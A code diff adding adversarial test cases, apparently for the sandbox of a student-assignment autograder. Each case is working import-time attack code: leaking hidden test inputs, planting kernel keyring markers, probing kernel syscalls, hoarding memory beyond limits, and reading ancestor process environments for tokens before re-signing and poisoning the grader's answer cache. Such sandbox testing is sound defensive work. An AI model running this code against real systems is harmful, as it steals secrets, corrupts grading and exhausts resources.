@@ -1393,6 +1393,414 @@ def sigmoid_gradient(x):
     notes="Never run unsandboxed: it kills the process that imports it and that process's parents.",
 )
 
+# ----------------------------------------------------------- round 2 (issue 11)
+threat(
+    name="hidden_echo",
+    doc="""Tries to learn the inputs of hidden checks and show them to the student. At import
+it reads every file descriptor and the call stack, looking for a probe of `sigmoid`; any
+found goes into AUTHORS ("HIDDEN-LEAK-import ..."), which reaches the gradebook and the
+report. `sigmoid` (correct) records and prints every argument ("HIDDEN-LEAK-print ...");
+`gradients` (correct otherwise) raises with what `sigmoid` got, if it has been called
+("HIDDEN-LEAK-order ..."). tests/sandbox/test_hidden_probes.py grades it with 6.2c's check
+hidden: then no HIDDEN-LEAK may reach any file a student sees, and every task passes. In this
+batch 6.2c is visible, so `gradients` (6.3b, asked after `sigmoid`) raises: 6.3b `error`.""",
+    imports=["gc"],
+    prelude='''
+# ATTACK: look for the probe list at import, wherever the sandbox might keep it. (The
+# patterns are put together at run time, so that this file's own text never matches.)
+_NAME = "sig" + "moid"
+_PATTERNS = [f'"name": "{_NAME}"'.encode(), f'"name":"{_NAME}"'.encode()]
+
+
+def _probe_like(v, depth=0):
+    if isinstance(v, str):
+        v = v.encode("utf-8", "replace")
+    if isinstance(v, (bytes, bytearray)):
+        return any(p in v for p in _PATTERNS)
+    if depth > 3 or v is globals():  # its own namespace holds the patterns themselves
+        return False
+    if isinstance(v, dict):
+        if v.get("name") == _NAME and "args" in v:
+            return True
+        return any(_probe_like(x, depth + 1) for x in list(v.values())[:100])
+    if isinstance(v, (list, tuple)):
+        return any(_probe_like(x, depth + 1) for x in list(v)[:500])
+    return False
+
+
+def _look_for_probes():
+    found = []
+    for fd in range(3, 64):
+        try:
+            os.lseek(fd, 0, os.SEEK_SET)
+        except OSError:
+            pass
+        try:
+            os.set_blocking(fd, False)
+            data = os.read(fd, 1 << 20)
+        except OSError:
+            continue
+        if _probe_like(data):
+            found.append(f"fd {fd}: {data[:200]!r}")
+    frame = sys._getframe().f_back
+    while frame is not None:
+        if frame.f_globals is not globals() and _probe_like(dict(frame.f_locals)):
+            found.append(f"frame {frame.f_code.co_name}: {str(frame.f_locals)[:200]}")
+        frame = frame.f_back
+    for obj in gc.get_objects():
+        if isinstance(obj, dict) and obj.get("name") == _NAME and "args" in obj:
+            found.append(f"object {str(obj)[:200]}")
+    return found
+
+
+_AT_IMPORT = _look_for_probes()
+_SEEN = []
+''',
+    replace={
+        "sigmoid": '''
+def sigmoid(x):
+    """Correct, but records and prints every argument."""
+    _SEEN.append(repr(x)[:200])
+    print("HIDDEN-LEAK-print", repr(x)[:200])
+    if _sym(x):
+        return 1 / (1 + sympy.exp(-x))
+    return _stable_sigmoid(x)
+''',
+        "gradients": '''
+def gradients(a, b):
+    """Correct, unless sigmoid was asked before: then it raises with sigmoid's inputs."""
+    if _SEEN:
+        raise ValueError("HIDDEN-LEAK-order " + " ".join(_SEEN)[:1000])
+    return b + 1, a + 2 * b + 1
+''',
+        "authors": '''
+AUTHORS = [{authors}] + [("HIDDEN-LEAK-import " + f[:200], "1") for f in _AT_IMPORT[:3]]
+''',
+    },
+    lose={"6.3b": "error"},
+    answers_must_not_contain=["HIDDEN-LEAK-import"],
+)
+
+
+threat(
+    name="keyring_marker",
+    doc="""A persistent channel through the kernel's keyrings. At import it looks for a key
+"grader-keyring-marker" in the user and session keyrings (a hand-in graded earlier, even in
+an earlier run, may have left one: every hand-in runs as `nobody`, whose user keyring
+outlives the batch) and then adds one holding its own marker. Each step is recorded in
+EMPIRICAL_VS_DATA_GENERATING ("KEY-FOUND ...", "KEY-ADDED ...", or "KEY-BLOCKED ..."). All
+answers are correct: nothing is lost, but no key may be added or found
+(tests/sandbox/test_kernel_surface.py runs it in two separate sandboxes).""",
+    imports=["ctypes", "platform"],
+    prelude='''
+# ATTACK: read and leave a marker in the kernel keyrings; record what worked.
+_KEY_NR = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (248, 250))
+_DESCRIPTION = b"grader-keyring-marker"
+
+
+def _keyrings():
+    libc = ctypes.CDLL(None, use_errno=True)
+    add_key, keyctl = _KEY_NR
+    log = []
+    for name, ring in (("user", -4), ("session", -3)):
+        key = libc.syscall(keyctl, 10, ring, b"user", _DESCRIPTION, 0)  # KEYCTL_SEARCH
+        if key < 0:
+            log.append(f"KEY-BLOCKED search {name}: {os.strerror(ctypes.get_errno())}")
+            continue
+        buf = ctypes.create_string_buffer(256)
+        n = libc.syscall(keyctl, 11, key, buf, 256)  # KEYCTL_READ
+        log.append(f"KEY-FOUND in {name}: {buf.raw[:max(n, 0)]!r}")
+    payload = b"KEYRING-MARKER from keyring_marker " + str(time.time()).encode()
+    for name, ring in (("user", -4), ("session", -3)):
+        key = libc.syscall(add_key, b"user", _DESCRIPTION, payload, len(payload), ring)
+        if key < 0:
+            log.append(f"KEY-BLOCKED add {name}: {os.strerror(ctypes.get_errno())}")
+        else:
+            log.append(f"KEY-ADDED to {name}: {key}")
+    return "\\n".join(log)
+
+
+try:
+    _KEY_LOG = _keyrings()
+except BaseException as _exc:
+    _KEY_LOG = f"keyring probe failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "KEYRING LOG\\n" + _KEY_LOG
+'''},
+    answers_must_not_contain=["KEY-FOUND", "KEY-ADDED"],
+)
+
+threat(
+    name="kernel_surface",
+    doc="""Reaches for the kernel's attack surface at import, each attempt in a forked
+process: a new user namespace (uid 0 with every capability inside) and in it a tmpfs mount,
+a new network namespace, clone() with CLONE_NEWUSER, clone3, ptrace, process_vm_readv, kcmp,
+pidfd_open, bpf, perf_event_open, userfaultfd, io_uring_setup, keyctl, memfd_create, SysV
+shared memory, vsock and netlink sockets, personality. An attempt the kernel carried out
+(or looked at: any answer but EPERM, ENOSYS for clone3) is recorded as "SYSCALL-REACHED";
+one refused before the kernel looked, as "SYSCALL-BLOCKED", in
+EMPIRICAL_VS_DATA_GENERATING. All answers are correct: nothing is lost, but no
+"SYSCALL-REACHED" may appear.""",
+    imports=["ctypes", "platform", "socket"],
+    prelude='''
+# ATTACK: try the kernel's attack surface, each attempt in a child process.
+_NR = {
+    "x86_64": {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
+               "keyctl": 250, "memfd_create": 319, "process_vm_readv": 310, "kcmp": 312,
+               "pidfd_open": 434, "clone3": 435, "personality": 135, "clone": 56},
+    "aarch64": {"bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "io_uring_setup": 425,
+                "keyctl": 219, "memfd_create": 279, "process_vm_readv": 270, "kcmp": 272,
+                "pidfd_open": 434, "clone3": 435, "personality": 92, "clone": 220},
+}.get(platform.machine(), {})
+
+
+def _attempts(libc):
+    me = os.getpid()
+
+    def sc(name, *args):
+        return lambda: libc.syscall(_NR[name], *args)
+
+    def userns_mount():
+        if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
+            return -1
+        return libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
+
+    return [
+        ("unshare(CLONE_NEWUSER)", lambda: libc.unshare(0x10000000)),
+        ("user namespace + tmpfs mount", userns_mount),
+        ("unshare(CLONE_NEWNET)", lambda: libc.unshare(0x40000000)),
+        ("clone(CLONE_NEWUSER)", sc("clone", 0x10000000 | 17, 0, 0, 0, 0)),
+        ("clone3", sc("clone3", 0, 0)),
+        ("ptrace(PTRACE_TRACEME)", lambda: libc.ptrace(0, 0, 0, 0)),
+        ("process_vm_readv", sc("process_vm_readv", me, 0, 0, 0, 0, 0)),
+        ("kcmp", sc("kcmp", me, me, 0, 0, 0)),
+        ("pidfd_open", sc("pidfd_open", me, 0)),
+        ("bpf", sc("bpf", 5, 0, 0)),
+        ("perf_event_open", sc("perf_event_open", 0, 0, -1, -1, 0)),
+        ("userfaultfd", sc("userfaultfd", 1)),
+        ("io_uring_setup", sc("io_uring_setup", 1, 0)),
+        ("keyctl", sc("keyctl", 0, -3, 0)),
+        ("memfd_create", sc("memfd_create", b"x", 0)),
+        ("shmget", lambda: libc.shmget(0, 1 << 20, 0o1600)),
+        ("socket(AF_VSOCK)", lambda: libc.socket(40, 1, 0)),
+        ("socket(AF_NETLINK)", lambda: libc.socket(16, 3, 0)),
+        ("personality", sc("personality", 0x0040000)),
+    ]
+
+
+def _kernel_surface():
+    libc = ctypes.CDLL(None, use_errno=True)
+    log = []
+    for name, attempt in _attempts(libc):
+        r, w = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            os.close(r)
+            try:
+                result = attempt()
+                err = ctypes.get_errno() if result < 0 else 0
+            except BaseException:
+                err = 255
+            os.write(w, str(err).encode())
+            os._exit(0)
+        os.close(w)
+        err = int(os.read(r, 16) or b"255")
+        os.close(r)
+        os.waitpid(pid, 0)
+        refused = err == (38 if name == "clone3" else 1)  # ENOSYS, EPERM
+        log.append(f"SYSCALL-{'BLOCKED' if refused else 'REACHED'} {name}: {os.strerror(err)}")
+    return "\\n".join(log)
+
+
+try:
+    _SURFACE_LOG = _kernel_surface()
+except BaseException as _exc:
+    _SURFACE_LOG = f"kernel surface probe failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "KERNEL SURFACE LOG\\n" + _SURFACE_LOG
+'''},
+    answers_must_not_contain=["SYSCALL-REACHED"],
+)
+
+
+threat(
+    name="memfd_eater",
+    doc="""Holds memory that RLIMIT_AS does not count, at import: it writes up to 2 GiB each
+into memfd files (a new one whenever RLIMIT_FSIZE stops one), SysV shared memory segments (attached, filled, detached: they outlive the
+mapping) and files under /dev/shm, 64 MiB at a time, and keeps them. How much it got is
+recorded in EMPIRICAL_VS_DATA_GENERATING ("OUTSIDE-LIMITS memfd N MB, ..."). All answers are
+correct: nothing is lost, but no route may hold 100 MB or more (memfd and SysV shared memory
+are refused; /dev/shm is the hand-in's own size-capped /tmp).""",
+    imports=["ctypes"],
+    prelude='''
+# ATTACK: hold memory outside the address-space limit; record how much.
+_HOARD = []
+_CHUNK = 64 << 20
+_CAP = 2048 << 20
+
+
+def _memfd():
+    block, held = b"\\x01" * (1 << 20), 0
+    while held < _CAP:  # a new file whenever RLIMIT_FSIZE stops one
+        fd = os.memfd_create("hoard")
+        _HOARD.append(fd)
+        try:
+            while held < _CAP:
+                held += os.write(fd, block)
+        except OSError as exc:
+            if exc.errno != 27:  # EFBIG: take the next file
+                break
+    return held
+
+
+def _sysv():
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.shmat.restype = ctypes.c_void_p
+    held = 0
+    while held < _CAP:
+        shmid = libc.shmget(0, _CHUNK, 0o1600)
+        if shmid < 0:
+            break
+        addr = libc.shmat(shmid, None, 0)
+        if addr in (None, ctypes.c_void_p(-1).value):
+            break
+        ctypes.memset(addr, 1, _CHUNK)
+        libc.shmdt(ctypes.c_void_p(addr))
+        held += _CHUNK
+    return held
+
+
+def _shm_files():
+    block, held, i = b"\\x01" * (1 << 20), 0, 0
+    while held < _CAP:
+        with open(f"/dev/shm/grader-hoard-{os.getpid()}-{i}", "wb") as fh:
+            for _ in range(16):
+                fh.write(block)
+                held += len(block)
+        i += 1
+    return held
+
+
+def _outside_limits():
+    out = []
+    for name, route in (("memfd", _memfd), ("sysv", _sysv), ("shm", _shm_files)):
+        try:
+            held = route()
+        except (OSError, MemoryError) as exc:
+            out.append(f"{name} refused ({type(exc).__name__})")
+            continue
+        out.append(f"{name} {held >> 20} MB")
+    return "OUTSIDE-LIMITS " + ", ".join(out)
+
+
+try:
+    _HOARD_LOG = _outside_limits()
+except BaseException as _exc:
+    _HOARD_LOG = f"hoarding failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "MEMORY LOG\\n" + _HOARD_LOG
+'''},
+    answers_must_not_match=[r"OUTSIDE-LIMITS.*\b\d{3,} MB"],
+    notes="Never run unsandboxed: it keeps up to 6 GiB.",
+)
+
+
+threat(
+    name="cache_poisoner",
+    doc="""Tries to change later grades through the grader's on-disk reference cache. At import
+it reads the environment of every ancestor process (/proc/PID/environ: tokens, and
+GRADER_CACHE_DIR), then rewrites every entry of every grader cache it can find so that each
+cached reference answer becomes a wrong one, and tries to read the cache's key. What worked
+is recorded in EMPIRICAL_VS_DATA_GENERATING ("ENV-LEAK ...", "REWROTE ...", "KEY-READ ...").
+All answers are correct: nothing is lost, but nothing may work; a correct hand-in graded
+later, even in another run sharing the cache, still gets full marks
+(tests/sandbox/test_degraded.py grades both without namespaces).""",
+    imports=["glob", "hashlib", "hmac", "json"],
+    prelude='''
+# ATTACK: read the grader's environment, poison its reference cache; record what worked.
+def _ancestors():
+    pid, seen = os.getppid(), []
+    while pid > 1 and len(seen) < 20:
+        seen.append(pid)
+        try:
+            with open(f"/proc/{pid}/stat", "rb") as fh:
+                pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    return seen
+
+
+def _poison():
+    log, dirs = [], set()
+    for pid in _ancestors():
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as fh:
+                env = dict(v.split(b"=", 1) for v in fh.read().split(b"\\0") if b"=" in v)
+        except OSError as exc:
+            log.append(f"ENV-BLOCKED {pid}: {type(exc).__name__}")
+            continue
+        for name, value in env.items():
+            if b"TOKEN" in name or b"SECRET" in name or name == b"GRADER_CACHE_DIR":
+                log.append(f"ENV-LEAK {name.decode()}={value.decode(errors='replace')}")
+        if b"GRADER_CACHE_DIR" in env:
+            dirs.add(env[b"GRADER_CACHE_DIR"].decode())
+        if b"HOME" in env:
+            dirs.add(env[b"HOME"].decode() + "/.cache/grader")
+    dirs.update({os.path.expanduser("~/.cache/grader"), "/root/.cache/grader"})
+    for d in sorted(dirs):
+        key = None
+        try:
+            with open(os.path.join(d, "key")) as fh:
+                key = bytes.fromhex(fh.read().strip())
+            log.append(f"KEY-READ {d}")
+        except (OSError, ValueError) as exc:
+            log.append(f"KEY-BLOCKED {d}: {type(exc).__name__}")
+        rewrote = 0
+        for path in glob.glob(os.path.join(d, "*", "*.json")):
+            try:
+                with open(path) as fh:
+                    entry = json.load(fh)
+                entry["value"] = _wrong(entry.get("value"))
+                if key is not None:  # sign it as grader/cache.py does
+                    body = [entry.get("format"), entry.get("key"), entry.get("kind"), entry["value"]]
+                    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
+                    entry["mac"] = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
+                with open(path, "w") as fh:
+                    json.dump(entry, fh)
+                rewrote += 1
+            except (OSError, ValueError):
+                pass
+        if rewrote:
+            log.append(f"REWROTE {rewrote} entries in {d}")
+    return "\\n".join(log) or "nothing found"
+
+
+def _wrong(value):
+    """The same shape, every sympy object a wrong number."""
+    if isinstance(value, dict) and "$sympy" in value:
+        return {"$sympy": "Integer(7)"}
+    if isinstance(value, dict):
+        return {k: _wrong(v) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_wrong(v) for v in value]
+    return value
+
+
+try:
+    _POISON_LOG = _poison()
+except BaseException as _exc:
+    _POISON_LOG = f"poisoning failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "CACHE LOG\\n" + _POISON_LOG
+'''},
+    answers_must_not_contain=["ENV-LEAK", "REWROTE", "KEY-READ"],
+)
+
+
 # ---------------------------------------------------------------- the correct hand-in
 CORRECT_FILE = "Zoë Müller – korrekt.py"
 CORRECT_DOC = """Exercise sheet 6: a complete, correct hand-in (the file name has non-ASCII characters
